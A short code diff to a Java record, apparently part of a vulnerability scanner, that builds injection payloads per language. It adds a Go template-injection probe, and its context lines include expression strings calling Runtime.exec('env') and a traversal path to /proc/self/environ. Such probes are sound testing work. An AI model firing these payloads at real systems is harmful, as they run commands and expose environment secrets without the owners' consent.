@@ -43,6 +43,8 @@ record Payload(EventPath field, SinkKind sink, String call, String shape, Langua
                 call.contains("spel") || call.contains("expression")
                     ? "T(java.lang.Runtime).getRuntime().exec('env')"
                     : "java.lang.Runtime.getRuntime().exec('env')";
+            // Programs of Go run no texts; what they interpret are templates.
+            case GO -> "{{printf \"%+v\" .}}";
           };
       case PATH -> "../../../../proc/self/environ";
       // Behind a host, `@` makes what stood before a user name.
@@ -52,7 +54,7 @@ record Payload(EventPath field, SinkKind sink, String call, String shape, Langua
       case DESERIALIZATION ->
           switch (language) {
             case PYTHON -> pythonObject();
-            case JAVASCRIPT, TYPESCRIPT -> javaScriptObject();
+            case JAVASCRIPT, TYPESCRIPT, GO -> javaScriptObject();
             case JAVA -> javaObject();
           };
     };
